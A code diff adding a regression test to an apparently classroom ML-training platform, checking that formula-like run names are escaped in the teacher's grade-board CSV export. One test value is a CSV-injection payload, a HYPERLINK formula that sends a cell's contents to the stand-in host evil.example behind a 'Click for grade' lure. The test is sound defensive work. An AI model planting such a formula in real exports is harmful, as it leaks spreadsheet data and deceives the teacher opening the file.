@@ -136,3 +136,21 @@ def test_parallel_submissions_never_overshoot_the_queued_runs_limit(classroom):
         sweeps.start(SweepSpec(name="s", datasets=("digits",), variants=(Variant("mlp", "mlp"),), optimizers=("adam",),
                                learning_rates=(1e-2,), batch_sizes=(16,), epochs=(1,)), settings, actor=AMY)
     assert len(jobs.list_runs(settings, actor=AMY)) == 5
+
+
+def test_a_run_name_that_looks_like_a_formula_reaches_the_boards_csv_as_text(classroom, store):
+    """Found by a hostile probe: a student renamed her run `=HYPERLINK(...)`, a live link in the teacher's
+    spreadsheet."""
+    import csv
+    import io
+
+    from core.store.runs import MetricPoint
+
+    name = '=HYPERLINK("http://evil.example/?leak="&B2,"Click for grade")'
+    run_id = store.create_run(name, {"dataset": "digits"}, owner="amy")
+    store.claim(run_id, 1, "host")
+    store.report(run_id, [MetricPoint("epoch", 1, 1.0, 1.0, "val_accuracy", 0.95)], 1, 0, 1.0, None)
+    store.finish(run_id, "succeeded", test_accuracy=0.94)
+    board = class_service.assignment_board("digits", 0.9, classroom, actor=TESS)
+    [row] = [r for r in csv.DictReader(io.StringIO(class_service.board_csv(board))) if r["student"] == "amy"]
+    assert row["name"] == "'" + name and row["student"] == "amy" and float(row["val accuracy"]) == 0.95
